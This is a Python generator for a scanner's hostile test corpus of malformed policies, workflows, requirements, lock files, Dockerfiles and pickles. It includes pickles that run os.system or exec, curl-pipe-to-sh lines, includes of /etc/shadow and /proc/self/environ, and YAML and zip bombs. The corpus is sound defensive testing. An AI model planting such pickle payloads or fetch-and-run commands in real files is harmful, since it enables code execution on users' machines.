"""Write the hostile corpus and its index (``INDEX.tsv``) from one table.

Run ``python tests/data/hostile/make_corpus.py`` to regenerate every file here; the
index is written from the same table, so it cannot miss a file. Files too large to
commit (100-MB lines, multi-GB sparse files, zip bombs, symlink loops, hostile file
names) are made at test time by ``tests/hostile/hostile_generators.py``; their rows here use
the ``gen:`` prefix and describe the generator.

Columns of INDEX.tsv:
    file     corpus file (or folder, or ``gen:NAME``)
    runs     what drives it, comma-separated: check (``chainward check --format json``),
             pin (``chainward pin``, no write), typosquats, models-verify, commits,
             verify-bundle, verify-pypi (--pypi-provenance), verify-key (DSSE, --key),
             parse:<target> (a parser called directly; see tests/hostile/hostile_targets.py)
    place    where it is put in the scanned root (a folder row is copied as is: ``.``)
    expect   what chainward must do (besides: exit 0/1/2, no traceback, bounded time
             and memory, no file created): ok | unparsable | too-large | config-error |
             not-verified | finding:<check-id>
    needs    the check id (or ``-``) that must be registered for ``expect`` to be
             enforced; until that family lands only the no-crash invariants apply
    attack   what the file attacks
"""

from __future__ import annotations

import base64
import io
import random
import struct
import zipfile
from dataclasses import dataclass
from pathlib import Path

HERE = Path(__file__).resolve().parent
EMPTY_TREE = "4b825dc642cb6eb9a060e54bf8d69288fbee4904"
CANARY = "CHAINWARD_CANARY"


@dataclass(frozen=True)
class Entry:
    file: str
    runs: str
    place: str
    expect: str
    needs: str
    attack: str
    content: bytes | dict[str, bytes] | None = None


def _b(text: str) -> bytes:
    return text.encode("utf-8")


# --- pickles, written opcode by opcode --------------------------------------------------


def _short_unicode(text: str) -> bytes:
    raw = text.encode()
    return b"\x8c" + bytes([len(raw)]) + raw


PICKLE_OS_SYSTEM = b"cos\nsystem\n(S'touch " + CANARY.encode() + b"'\ntR."
PICKLE_EXEC_STACK_GLOBAL = (
    b"\x80\x04"
    + _short_unicode("builtins")
    + b"\x94"
    + _short_unicode("exec")
    + b"\x94\x93"
    + _short_unicode(f"open('{CANARY}', 'w').close()")
    + b"\x85R."
)
# The module and name come from the memo (BINGET), not from the strings just before
# STACK_GLOBAL: a scanner that only looks back one opcode misses it.
PICKLE_MEMO_INDIRECT = (
    b"\x80\x04"
    + _short_unicode("posix")
    + b"\x94"
    + _short_unicode("system")
    + b"\x94"
    + _short_unicode("ignored")
    + b"0h\x00h\x01\x93"
    + _short_unicode(f"touch {CANARY}")
    + b"\x85R."
)
PICKLE_INST_SUBPROCESS = b"(S'touch " + CANARY.encode() + b"'\nisubprocess\ncall\n."
PICKLE_GETATTR_IMPORT = (
    b"\x80\x02cbuiltins\ngetattr\n(cbuiltins\n__import__\n(S'os'\ntRS'system'\ntR(S'touch "
    + CANARY.encode()
    + b"'\ntR."
)
PICKLE_HUGE_MEMO = b"\x80\x02N" + b"r\xff\xff\xff\xff" + b"j\xfe\xff\xff\xff" + b"."
PICKLE_DEEP_MARKS = b"\x80\x02" + b"(" * 50_000 + b"."
PICKLE_DEEP_LISTS = b"\x80\x02" + b"]" * 30_000 + b"a" * 29_999 + b"."
PICKLE_HUGE_UNICODE8 = b"\x80\x04\x8d" + struct.pack("<Q", 1 << 62) + b"abc."
PICKLE_HUGE_FRAME = b"\x80\x04\x95" + struct.pack("<Q", (1 << 63) - 1) + b"N."
PICKLE_BINBYTES_LIE = b"\x80\x03B" + struct.pack("<I", 0xFFFFFFFF) + b"xx."
PICKLE_NEXT_BUFFER = b"\x80\x05\x97\x98."
PICKLE_BAD_PROTO = b"\x80\xff."
PICKLE_NO_STOP = b"\x80\x02]q\x00(K\x01K\x02e"


def _torch_zip(members: dict[str, bytes], *, comment: bytes = b"") -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
        for name, data in members.items():
            info = zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0))
            archive.writestr(info, data)
        archive.comment = comment
    return buffer.getvalue()


BENIGN_TORCH_PICKLE = b"\x80\x02ccollections\nOrderedDict\nq\x00)Rq\x01."  # an empty state dict


def _torch_duplicate_names() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("archive/data.pkl", BENIGN_TORCH_PICKLE)
        archive.writestr("archive/data.pkl", PICKLE_OS_SYSTEM)  # zipfile warns; on purpose
    return buffer.getvalue()


def _zip_lying_sizes() -> bytes:
    data = bytearray(_torch_zip({"archive/data.pkl": PICKLE_OS_SYSTEM, "archive/version": b"3"}))
    # Patch the central directory's uncompressed size of the first member to 1 TiB-1.
    central = data.find(b"PK\x01\x02")
    struct.pack_into("<I", data, central + 24, 0xFFFFFFFF)
    return bytes(data)


def _zip_bad_method() -> bytes:
    data = bytearray(_torch_zip({"archive/data.pkl": PICKLE_OS_SYSTEM, "archive/version": b"3"}))
    central = data.find(b"PK\x01\x02")
    struct.pack_into("<H", data, central + 6, 64)  # "version needed to extract" 6.4
    struct.pack_into("<H", data, central + 10, 99)  # compression method 99 (AES)
    return bytes(data)


def _zip_patched(kind: str) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("archive/data.pkl", PICKLE_OS_SYSTEM * 50)
    data = bytearray(buffer.getvalue())
    local, central = 0, data.find(b"PK\x01\x02")
    if kind == "encrypted":  # general-purpose flag bit 0 in both headers
        struct.pack_into("<H", data, local + 6, 1)
        struct.pack_into("<H", data, central + 8, 1)
    else:  # overwrite the deflate stream with garbage of the same length
        start = local + 30 + len("archive/data.pkl")
        size = struct.unpack_from("<I", data, local + 18)[0]
        data[start : start + size] = bytes(range(256)) * (size // 256) + bytes(size % 256)
    return bytes(data)


def _zip_corrupt_first_member() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("archive/aaa.pkl", b"x" * 2000)
        archive.writestr("archive/data.pkl", PICKLE_OS_SYSTEM)
    data = bytearray(buffer.getvalue())
    size = struct.unpack_from("<I", data, 18)[0]
    start = 30 + len("archive/aaa.pkl")
    data[start : start + size] = b"\xff" * size
    return bytes(data)


def _nested_zip() -> bytes:
    inner = _torch_zip({"archive/data.pkl": PICKLE_OS_SYSTEM})
    return _torch_zip({"archive/data.pkl": BENIGN_TORCH_PICKLE, "archive/inner.pt": inner})


# --- DER/SSH fragments -----------------------------------------------------------------


def _armor(kind: str, payload: bytes, indent: str = " ", crc: str = "") -> str:
    body = base64.b64encode(payload).decode()
    lines = [body[i : i + 64] for i in range(0, len(body), 64)] or [""]
    lines += [crc] if crc else []
    inner = "\n".join(indent + line for line in lines)
    return f"-----BEGIN {kind}-----\n{indent}\n{inner}\n{indent}-----END {kind}-----"


# A CMS SignedData whose outer SEQUENCE claims 64 KiB but stops after the OID.
CMS_TRUNCATED = bytes.fromhex("3082ffff06092a864886f70d010702a0823000")
# A DER length of 2**63 (eight length octets).
CMS_HUGE_LENGTH = bytes.fromhex("30887fffffffffffffff06092a864886f70d010702")
SSH_WRONG_MAGIC = b"SSHSIX" + struct.pack(">I", 1) + b"\x00" * 16
SSH_HUGE_STRING = b"SSHSIG" + struct.pack(">I", 1) + struct.pack(">I", 0xFFFFFFF0) + b"ssh-ed25519"
SSH_GARBAGE = random.Random(7).randbytes(300)  # noqa: S311 - reproducible junk, not secrets


def _commit(headers: str, message: str = "subject\n\nbody\n") -> bytes:
    return _b(f"tree {EMPTY_TREE}\n{headers}\n\n{message}")


_WHO = (
    "author Mallory <m@example.com> 1700000000 +0000\n"
    "committer Mallory <m@example.com> 1700000000 +0000"
)


def _gpgsig(block: str, header: str = "gpgsig") -> str:
    lines = block.split("\n")
    return header + " " + lines[0] + "".join("\n " + line.lstrip(" ") for line in lines[1:])


# --- the table ---------------------------------------------------------------------------

GARBAGE = random.Random(1).randbytes(4096)  # noqa: S311 - reproducible junk, not secrets
DEEP_JSON = b"[" * 20_000 + b"]" * 20_000
HUGE_INT_DIGITS = "9" * 5000

ENTRIES: list[Entry] = [
    # Policy files -----------------------------------------------------------------------
    Entry(
        "policy-invalid-toml.toml",
        "check",
        "chainward.toml",
        "config-error",
        "-",
        "a policy with a TOML syntax error: exit 2 naming the file and line",
        _b('exclude = ["a",\nfail-on = "low"\n'),
    ),
    Entry(
        "policy-huge-int.toml",
        "check",
        "chainward.toml",
        "config-error",
        "-",
        "max-file-size with 5000 digits (beyond int() digit limit; tomllib raised ValueError)",
        _b(f"max-file-size = {HUGE_INT_DIGITS}\n"),
    ),
    Entry(
        "policy-deep-nesting.toml",
        "check",
        "chainward.toml",
        "config-error",
        "-",
        "exclude nested 20,000 arrays deep (tomllib raised RecursionError)",
        _b("exclude = " + "[" * 20_000 + "]" * 20_000 + "\n"),
    ),
    Entry(
        "policy-wrong-types.toml",
        "check",
        "chainward.toml",
        "config-error",
        "-",
        "every key of the wrong type (exclude a string, checks a list)",
        _b('exclude = "src"\nfail-on = 3\nchecks = [1, 2]\n'),
    ),
    Entry(
        "policy-unknown-check.toml",
        "check",
        "chainward.toml",
        "config-error",
        "-",
        "a per-check table for a check id that does not exist",
        _b("[checks.unpined-action]\nenabled = false\n"),
    ),
    Entry(
        "policy-max-file-size-huge.toml",
        "check",
        "chainward.toml",
        "ok",
        "-",
        "max-file-size = 2**63-1: reads must not preallocate the limit",
        _b("max-file-size = 9223372036854775807\n"),
    ),
    Entry(
        "policy-max-file-size-negative.toml",
        "check",
        "chainward.toml",
        "config-error",
        "-",
        "max-file-size = -1 would silently skip every file",
        _b("max-file-size = -1\n"),
    ),
    Entry(
        "policy-nul-bytes.toml",
        "check",
        "chainward.toml",
        "config-error",
        "-",
        "NUL bytes inside the policy file",
        b'fail-on = "lo\x00w"\n\x00\x00\n',
    ),
    Entry(
        "policy-invalid-utf8.toml",
        "check",
        "chainward.toml",
        "config-error",
        "-",
        "invalid UTF-8 in the policy (exit 2 naming the byte offset)",
        b'exclude = ["\xff\xfe\xc3("]\n',
    ),
    Entry(
        "policy-duplicate-keys.toml",
        "check",
        "chainward.toml",
        "config-error",
        "-",
        "the same key twice (TOML forbids it)",
        _b('fail-on = "low"\nfail-on = "high"\n'),
    ),
    Entry(
        "policy-bom-crlf.toml",
        "check",
        "chainward.toml",
        "ok",
        "-",
        "a UTF-8 byte-order mark and CRLF line ends (Windows editors)",
        b'\xef\xbb\xbffail-on = "high"\r\nexclude = ["x/**"]\r\n',
    ),
    Entry(
        "pyproject-tool-not-table.toml",
        "check",
        "pyproject.toml",
        "config-error",
        "-",
        "[tool] chainward = 5 in pyproject.toml (policy of the wrong type)",
        _b('[project]\nname = "x"\n[tool]\nchainward = 5\n'),
    ),
    Entry(
        "policy-huge-glob.toml",
        "check",
        "chainward.toml",
        "ok",
        "-",
        "exclude globs of 100k stars and brackets (fnmatch must not go exponential)",
        _b('exclude = ["' + "*a" * 2000 + '", "[[[[[[[[", "**/**/**/**/**/**/x"]\n'),
    ),
    # Workflows and actions -----------------------------------------------------------------
    Entry(
        "wf-billion-laughs.yml",
        "check,parse:workflow",
        ".github/workflows/laughs.yml",
        "ok",
        "-",
        "billion-laughs anchors (10^9 expanded nodes) under jobs and steps",
        _b(
            "\n".join(
                ["a0: &a0 [x, x, x, x, x, x, x, x, x, x]"]
                + [f"a{i}: &a{i} [" + ", ".join([f"*a{i - 1}"] * 10) + "]" for i in range(1, 9)]
                + ["jobs:", "  j:", "    runs-on: ubuntu-latest", "    steps: *a8", "  k: *a8"]
            )
            + "\n"
        ),
    ),
    Entry(
        "wf-alias-fanout.yml",
        "check,parse:workflow",
        ".github/workflows/fanout.yml",
        "ok",
        "-",
        "3,000 jobs aliasing one job whose steps alias 3,000 steps "
        "(9M records if walked per alias)",
        _b(
            "\n".join(
                ["x:", "  st: &st {run: echo hi, uses: actions/checkout@v4}", "  s: &s"]
                + ["    - *st"] * 3000
                + ["  j: &j {runs-on: ubuntu-latest, steps: *s}", "jobs:"]
                + [f"  k{i}: *j" for i in range(3000)]
            )
            + "\n"
        ),
    ),
    Entry(
        "wf-recursive-alias.yml",
        "check,parse:workflow",
        ".github/workflows/rec.yml",
        "unparsable",
        "-",
        "an alias inside its own anchor (libyaml builds a cyclic graph)",
        _b("jobs: &j\n  build:\n    steps: &s\n      - uses: a/b@v1\n      - *s\n  again: *j\n"),
    ),
    Entry(
        "wf-deep-nesting.yml",
        "check,parse:workflow",
        ".github/workflows/deep.yml",
        "unparsable",
        "-",
        "flow sequences nested 50,000 deep",
        _b("jobs: " + "[" * 50_000 + "]" * 50_000 + "\n"),
    ),
    Entry(
        "wf-duplicate-keys.yml",
        "check,parse:workflow",
        ".github/workflows/dup.yml",
        "finding:unpinned-action",
        "unpinned-action",
        "duplicate jobs/steps keys: the last one wins for YAML loaders, both are scanned",
        _b(
            "jobs:\n  a:\n    steps:\n      - uses: actions/checkout@v4\n  a:\n"
            "    steps:\n      - uses: evil/action@main\n"
        ),
    ),
    Entry(
        "wf-python-tags.yml",
        "check,parse:workflow",
        ".github/workflows/tags.yml",
        "ok",
        "-",
        "!!python/object/apply:os.system tags that would run a command if constructed",
        _b(
            f"jobs:\n  a: !!python/object/apply:os.system ['touch {CANARY}']\n"
            f"  b:\n    steps:\n"
            f"      - !!python/object/new:subprocess.Popen [['touch', '{CANARY}']]\n"
        ),
    ),
    Entry(
        "wf-nul-bytes.yml",
        "check,parse:workflow",
        ".github/workflows/nul.yml",
        "unparsable",
        "-",
        "NUL bytes inside a workflow",
        b"jobs:\n  a:\n    steps:\n      - uses: a/b@v1\x00\x00\n",
    ),
    Entry(
        "wf-invalid-utf8.yml",
        "check,parse:workflow",
        ".github/workflows/utf8.yml",
        "ok",
        "-",
        "invalid UTF-8 (decoded with replacement) around a uses: line",
        b"jobs:\n  a:\n    steps:\n      - uses: \xff\xfe/\xc3(@v1\n",
    ),
    Entry(
        "wf-tab-indent.yml",
        "check,parse:workflow",
        ".github/workflows/tabs.yml",
        "unparsable",
        "-",
        "tab indentation (a YAML error with a line)",
        b"jobs:\n\ta:\n\t\tsteps: []\n",
    ),
    Entry(
        "wf-weird-types.yml",
        "check,parse:workflow",
        ".github/workflows/types.yml",
        "ok",
        "-",
        "jobs a list, steps a string, uses a mapping, run a list, services a scalar",
        _b(
            "jobs:\n  a:\n    steps: hello\n  b:\n    steps:\n      - uses: {x: 1}\n"
            "      - run: [1, 2]\n      - 42\n    services: 7\n    container: [x]\n"
            "  c: [1, 2]\n  ? [complex, key]\n  : 1\n"
        ),
    ),
    Entry(
        "wf-root-scalar.yml",
        "check,parse:workflow",
        ".github/workflows/scalar.yml",
        "ok",
        "-",
        "a workflow that is a bare scalar, then an empty document",
        _b("just a string\n"),
    ),
    Entry(
        "wf-multi-document.yml",
        "check,parse:workflow",
        ".github/workflows/multi.yml",
        "unparsable",
        "-",
        "several YAML documents in one workflow file",
        _b("jobs: {}\n---\njobs:\n  a:\n    steps:\n      - uses: evil/x@main\n"),
    ),
    Entry(
        "wf-control-chars.yml",
        "check,parse:workflow",
        ".github/workflows/ctrl.yml",
        "finding:unpinned-action",
        "unpinned-action",
        "ANSI escapes and a GitHub workflow command in a uses: value "
        "(terminal/annotation injection)",
        _b(
            'jobs:\n  a:\n    steps:\n      - uses: "evil/x@\\e[2J\\e]0;pwned\\a\\n::add-mask::x"\n'
        ),
    ),
    Entry(
        "wf-canary-run.yml",
        "check,parse:workflow",
        ".github/workflows/canary.yml",
        "ok",
        "-",
        f"run: lines that create {CANARY} if executed; must not exist afterwards",
        _b(
            f"jobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: touch {CANARY}\n"
            f"      - run: |\n          python -c \"open('{CANARY}','w')\"\n"
            f"          curl https://example.invalid/x.sh | sh\n"
        ),
    ),
    Entry(
        "action-weird.yml",
        "check,parse:workflow",
        "action.yml",
        "ok",
        "-",
        "composite/docker action with runs of wrong types and an image list",
        _b("runs:\n  using: docker\n  image: [a, b]\n  steps: {uses: x}\n"),
    ),
    Entry(
        "wf-merge-keys.yml",
        "check,parse:workflow",
        ".github/workflows/merge.yml",
        "ok",
        "-",
        "YAML merge keys (<<) pulling steps from an anchor",
        _b(
            "base: &base\n  runs-on: ubuntu-latest\njobs:\n  a:\n    <<: *base\n"
            "    steps:\n      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683\n"
        ),
    ),
    # Requirements ---------------------------------------------------------------------------
    Entry(
        "req-nul-bytes.txt",
        "check,pin,parse:requirements",
        "requirements.txt",
        "ok",
        "-",
        "NUL bytes inside and between requirement lines",
        b"torch==2.1.0\x00\n\x00transformers>=4\nnumpy\x00==1.0\n",
    ),
    Entry(
        "req-invalid-utf8.txt",
        "check,pin,parse:requirements",
        "requirements.txt",
        "ok",
        "-",
        "invalid UTF-8 in names, specifiers and comments",
        b"torch==2.1.0 # caf\xe9\n\xff\xfetransformers\naccelerate==\xc3(\n",
    ),
    Entry(
        "req-absurd-markers.txt",
        "check,pin,parse:requirements",
        "requirements.txt",
        "ok",
        "-",
        "markers nested 5,000 parentheses deep, 10,000 'and' clauses, unknown variables",
        _b(
            "torch==2.1.0; "
            + "(" * 5000
            + 'python_version > "3"'
            + ")" * 5000
            + "\n"
            + "numpy==1.0; "
            + " and ".join(['os_name == "posix"'] * 10_000)
            + "\n"
            + 'transformers==4.0; evil_var == "x" or python_version ~= "abc"\n'
        ),
    ),
    Entry(
        "req-include-cycle",
        "check,pin,parse:requirements",
        ".",
        "ok",
        "-",
        "-r includes forming a cycle (a -> b -> a) and a self-include",
        {
            "requirements.txt": _b("-r requirements-b.txt\ntorch==2.1.0\n"),
            "requirements-b.txt": _b("-r requirements.txt\n-c requirements-b.txt\nnumpy==1.0\n"),
        },
    ),
    Entry(
        "req-include-escape.txt",
        "check,pin,parse:requirements",
        "requirements.txt",
        "ok",
        "-",
        "-r includes of absolute paths, .. outside the root, /dev/zero, /proc/self/environ",
        _b(
            "-r /etc/passwd\n-r ../../../../../../etc/shadow\n-c /dev/zero\n"
            "-r /proc/self/environ\n--requirement=~/.netrc\ntorch==2.1.0\n"
        ),
    ),
    Entry(
        "req-long-include.txt",
        "check,pin,parse:requirements",
        "requirements.txt",
        "ok",
        "-",
        "-r of a 300-character file name and of a name with a NUL (Path.is_file raised "
        "ENAMETOOLONG / ValueError)",
        _b("-r " + "b" * 300 + ".txt\n-c a\x00b.txt\n-r " + "c/" * 3000 + "x.txt\ntorch==2\n"),
    ),
    Entry(
        "req-endless-continuation.txt",
        "check,pin,parse:requirements",
        "requirements.txt",
        "ok",
        "-",
        "20,000 lines each ending in a backslash continuation, the last one at end of file",
        _b("torch \\\n" + "  --hash=sha256:" + "0" * 64 + " \\\n" * 20_000),
    ),
    Entry(
        "req-garbage-lines.txt",
        "check,pin,parse:requirements",
        "requirements.txt",
        "ok",
        "-",
        "malformed requirement lines: empty specifiers, lone operators, unclosed extras, "
        "@ with nothing",
        _b(
            "torch==\n===\ntorch[\ntorch[a,,b]==1\n@\nname @\n  ; python_version\n-e\n--hash\n"
            "--index-url\n-r\n-\n--unknown-option=1\ntorch>=1,<,==\n!=1\n.\n..\n"
        ),
    ),
    Entry(
        "req-huge-version.txt",
        "check,pin,parse:requirements",
        "requirements.txt",
        "ok",
        "-",
        "a version with 5,000 digits (packaging's int() raises a bare ValueError)",
        _b(f"torch=={HUGE_INT_DIGITS}\ntransformers==1.{HUGE_INT_DIGITS}\n"),
    ),
    Entry(
        "req-env-vars.txt",
        "check,pin,parse:requirements",
        "requirements.txt",
        "ok",
        "-",
        "environment variable references, nested and unterminated",
        _b(
            "${TORCH}\ntorch==${VERSION}\n${A${B${C}}}\n${UNTERMINATED\n"
            "--index-url ${INDEX}/simple\n"
        ),
    ),
    Entry(
        "req-hash-abuse.txt",
        "check,pin,parse:requirements",
        "requirements.txt",
        "ok",
        "-",
        "1,000 --hash options on one requirement, bad algorithms and non-hex digests",
        _b(
            "torch==2.1.0 "
            + " ".join(f"--hash=sha256:{i:064x}" for i in range(1000))
            + " --hash=md5:zz --hash=:: --hash=sha256:\n"
        ),
    ),
    Entry(
        "req-bom-cr.txt",
        "check,pin,parse:requirements",
        "requirements.txt",
        "ok",
        "-",
        "a byte-order mark, CRLF, lone CR and form feeds as line ends",
        b"\xef\xbb\xbftorch==2.1.0\r\ntransformers>=4\rnumpy\x0c==1\r\n",
    ),
    Entry(
        "req-weird-names.txt",
        "check,pin,typosquats,parse:requirements,parse:typosquat-names",
        "requirements.txt",
        "ok",
        "-",
        "homoglyph names (Cyrillic o), 10k-character names, names of only punctuation",
        _b("t\u043erch==2.1.0\n" + "a" * 10_000 + "==1.0\n-_.==1\nTORCH__==1\n"),
    ),
    Entry(
        "req-vcs-urls.txt",
        "check,pin,parse:requirements",
        "requirements.txt",
        "ok",
        "-",
        "VCS and URL requirements with odd schemes, credentials and fragments",
        _b(
            "git+https://user:pass@github.com/x/y.git@@@#egg=\nfile:///etc/passwd\n"
            "peft @ git+ssh://git@github.com/x/peft.git@" + "a" * 40 + "\n"
            "x @ https://e.invalid/x.whl#sha256=zz&sha256=\nhttp://[::1\n"
        ),
    ),
    # pyproject and friends ------------------------------------------------------------------
    Entry(
        "pyproject-wrong-types.toml",
        "check,pin",
        "pkg/pyproject.toml",
        "ok",
        "-",
        "PEP 621/735/Poetry tables with every value of the wrong type",
        _b(
            '[project]\nname = 5\ndependencies = "torch"\n[project.optional-dependencies]\n'
            'x = [1, {a = 2}]\ny = "z"\n[dependency-groups]\ndev = [{include-group = 5}, 3]\n'
            "[build-system]\nrequires = {a = 1}\n[tool.poetry]\ndependencies = [1]\n"
            '[tool.poetry.group.x]\ndependencies = "y"\n'
        ),
    ),
    Entry(
        "pyproject-group-cycle.toml",
        "check,pin",
        "pkg/pyproject.toml",
        "ok",
        "-",
        "dependency-groups that include each other in a cycle, and a missing group",
        _b(
            '[dependency-groups]\na = [{include-group = "b"}, "torch"]\n'
            'b = [{include-group = "a"}]\n'
            'c = [{include-group = "c"}, {include-group = "missing"}]\n'
        ),
    ),
    Entry(
        "pyproject-deep.toml",
        "check,pin",
        "pkg/pyproject.toml",
        "unparsable",
        "-",
        "dependencies nested 20,000 arrays deep (RecursionError in tomllib)",
        _b("[project]\ndependencies = " + "[" * 20_000 + "]" * 20_000 + "\n"),
    ),
    Entry(
        "pyproject-huge-int.toml",
        "check,pin",
        "pkg/pyproject.toml",
        "unparsable",
        "-",
        "an integer with 5,000 digits (ValueError in tomllib)",
        _b(f'[project]\nname = "x"\nversion = {HUGE_INT_DIGITS}\n'),
    ),
    Entry(
        "pyproject-duplicate-keys.toml",
        "check,pin",
        "pkg/pyproject.toml",
        "unparsable",
        "-",
        "the dependencies key twice",
        _b('[project]\ndependencies = ["torch"]\ndependencies = ["evil"]\n'),
    ),
    Entry(
        "setup-cfg-weird.cfg",
        "check,pin",
        "setup.cfg",
        "ok",
        "-",
        "duplicate sections and options, %(interpolation) loops, continuation-only values",
        _b(
            "[options]\ninstall_requires =\n    torch>=1\n    %(x)s\nx = %(y)s\ny = %(x)s\n"
            "[options]\ninstall_requires = evil\n[metadata\nname\n"
        ),
    ),
    Entry(
        "pipfile-weird.toml",
        "check,pin",
        "Pipfile",
        "ok",
        "-",
        "Pipfile with packages of the wrong types",
        _b('[packages]\ntorch = 5\nx = {version = ["a"], git = 3}\n[[source]]\nurl = 7\n'),
    ),
    Entry(
        "pipfile-lock-wrong-types.json",
        "check,pin",
        "Pipfile.lock",
        "ok",
        "-",
        "Pipfile.lock whose sections are lists, hashes numbers, versions objects",
        _b(
            '{"_meta": [], "default": {"torch": {"version": {"x": 1}, "hashes": 5}, "x": 3},'
            ' "develop": []}'
        ),
    ),
    Entry(
        "pipfile-lock-deep.json",
        "check,pin",
        "Pipfile.lock",
        "unparsable",
        "-",
        "JSON nested 20,000 arrays deep (RecursionError in json)",
        DEEP_JSON,
    ),
    Entry(
        "pipfile-lock-huge-number.json",
        "check,pin",
        "Pipfile.lock",
        "unparsable",
        "-",
        "a JSON number with 5,000 digits (ValueError in json)",
        _b('{"default": {"torch": {"version": ' + HUGE_INT_DIGITS + "}}}"),
    ),
    Entry(
        "pipfile-lock-nan.json",
        "check,pin",
        "Pipfile.lock",
        "ok",
        "-",
        "NaN, Infinity and a lone surrogate in JSON",
        _b('{"default": {"torch": {"version": NaN, "hashes": [Infinity, "\\ud800"]}}}'),
    ),
    Entry(
        "environment-weird.yml",
        "check,pin,typosquats",
        "environment.yml",
        "ok",
        "-",
        "conda environment with dependencies a mapping, pip a scalar, nested pip lists",
        _b(
            "name: x\ndependencies:\n  - pip:\n      - [torch]\n      - {a: 1}\n  - pip: torch\n"
            "  - 5\n  - {conda: x}\n  - python=3.10=*\n  - ::\n"
        ),
    ),
    Entry(
        "environment-recursive.yml",
        "check,pin",
        "environment.yml",
        "unparsable",
        "-",
        "a conda environment whose pip list contains itself (a cyclic YAML graph)",
        _b("dependencies: &d\n  - torch\n  - pip: *d\n"),
    ),
    Entry(
        "environment-laughs.yml",
        "check,pin",
        "environment.yml",
        "ok",
        "-",
        "billion-laughs anchors in a conda pip section",
        _b(
            "\n".join(
                ["a0: &a0 [torch, torch, torch, torch, torch, torch, torch, torch, torch, torch]"]
                + [f"a{i}: &a{i} [" + ", ".join([f"*a{i - 1}"] * 10) + "]" for i in range(1, 9)]
                + ["dependencies:", "  - pip: *a8", "  - *a8"]
            )
            + "\n"
        ),
    ),
    Entry(
        "uv-lock-wrong-types.toml",
        "check,pin",
        "uv.lock",
        "ok",
        "-",
        "uv.lock with package a table, wheels strings, hashes ints",
        _b('version = "x"\npackage = {name = 1}\n[[distribution]]\nname = 5\nwheels = "w"\n'),
    ),
    Entry(
        "poetry-lock-wrong-types.toml",
        "check,pin",
        "poetry.lock",
        "ok",
        "-",
        "poetry.lock with files lists of ints and metadata of the wrong type",
        _b(
            '[[package]]\nname = ["torch"]\nversion = 2\nfiles = [1, {file = 2, hash = 3}]\n'
            "[metadata]\nfiles = 5\n"
        ),
    ),
    Entry(
        "pylock-traversal.toml",
        "check,pin",
        "pylock.toml",
        "ok",
        "-",
        "pylock.toml with .. and absolute paths in directory/archive sources",
        _b(
            'lock-version = "1.0"\n[[packages]]\nname = "torch"\nversion = "2.1.0"\n'
            '[packages.directory]\npath = "../../../../etc"\n[[packages]]\nname = "x"\n'
            '[packages.archive]\npath = "/etc/passwd"\nhashes = {sha256 = 5}\n'
        ),
    ),
    # Dockerfiles ---------------------------------------------------------------------------
    Entry(
        "dockerfile-endless-continuation",
        "check,parse:dockerfile",
        "Dockerfile",
        "ok",
        "-",
        "20,000 continuation lines; the last line ends in a backslash at end of file",
        _b("FROM python:3.11\nRUN pip install \\\n" + "  torch \\\n" * 20_000),
    ),
    Entry(
        "dockerfile-arg-recursion",
        "check,parse:dockerfile",
        "Dockerfile",
        "ok",
        "-",
        "ARGs that expand each other in a cycle and 1,000-deep ${A:-${B:-...}} defaults",
        _b(
            "ARG A=${B}\nARG B=${A}\nARG C=" + "${X:-" * 1000 + "x" + "}" * 1000 + "\n"
            "FROM ${A}\nFROM ${C}\nFROM $$$\nFROM ${\n"
        ),
    ),
    Entry(
        "dockerfile-heredoc",
        "check,parse:dockerfile",
        "Dockerfile",
        "ok",
        "-",
        "an unterminated RUN heredoc and a heredoc delimiter that never appears",
        _b("FROM python:3.11\nRUN <<EOF\npip install torch\ncurl x | sh\nRUN <<'X' cat\n"),
    ),
    Entry(
        "dockerfile-weird-from",
        "check,typosquats,parse:dockerfile",
        "Dockerfile",
        "ok",
        "-",
        "FROM with no image, flags only, AS without a name, digests of the wrong length",
        _b(
            "FROM\nFROM --platform=\nFROM @sha256:\nFROM a AS\nFROM b@sha256:zz\n"
            "FROM c:d:e:f@sha256:" + "0" * 63 + "\nfrom scratch\n"
        ),
    ),
    Entry(
        "dockerfile-canary",
        "check,parse:dockerfile",
        "Containerfile",
        "ok",
        "-",
        f"RUN lines that create {CANARY} if executed",
        _b(f'FROM python:3.11\nRUN touch {CANARY}\nRUN ["sh", "-c", "touch {CANARY}"]\n'),
    ),
    # Python sources (download scanning, canaries) -----------------------------------------
    Entry(
        "canary-setup.pysrc",
        "check,pin",
        "setup.py",
        "ok",
        "-",
        f"a setup.py that creates {CANARY} when run or imported",
        _b(
            f"open({CANARY!r}, 'w').close()\nfrom setuptools import setup\n"
            "setup(name='x', install_requires=['torch>=1'])\n"
        ),
    ),
    Entry(
        "canary-conftest.pysrc",
        "check",
        "conftest.py",
        "ok",
        "-",
        f"a conftest.py that creates {CANARY} when imported",
        _b(f"import pathlib\npathlib.Path({CANARY!r}).touch()\n"),
    ),
    Entry(
        "py-deep-binop.pysrc",
        "check,parse:downloads",
        "deep.py",
        "ok",
        "-",
        "1 + 1 + ... 20,000 terms (ast.parse raises RecursionError)",
        _b("x = " + "+".join(["1"] * 20_000) + "\n"),
    ),
    Entry(
        "py-deep-calls.pysrc",
        "check,parse:downloads",
        "calls.py",
        "ok",
        "-",
        "from_pretrained(from_pretrained(... 150 deep, and an attribute chain 50,000 long",
        _b(
            "m = " + "AutoModel.from_pretrained(" * 150 + "'x'" + ")" * 150 + "\n"
            "y = a" + ".b" * 50_000 + ".from_pretrained('org/name')\n"
        ),
    ),
    Entry(
        "py-null-bytes.pysrc",
        "check,parse:downloads",
        "nul.py",
        "ok",
        "-",
        "NUL bytes in a Python source (ValueError/SyntaxError from ast)",
        b"from transformers import AutoModel\nAutoModel.from_pretrained('a/b')\x00\n",
    ),
    Entry(
        "py-bad-encoding.pysrc",
        "check,parse:downloads",
        "enc.py",
        "ok",
        "-",
        "a coding cookie naming an unknown codec, then invalid UTF-8",
        b"# -*- coding: evil-codec -*-\nx = '\xff\xfe'\n",
    ),
    Entry(
        "py-weird-calls.pysrc",
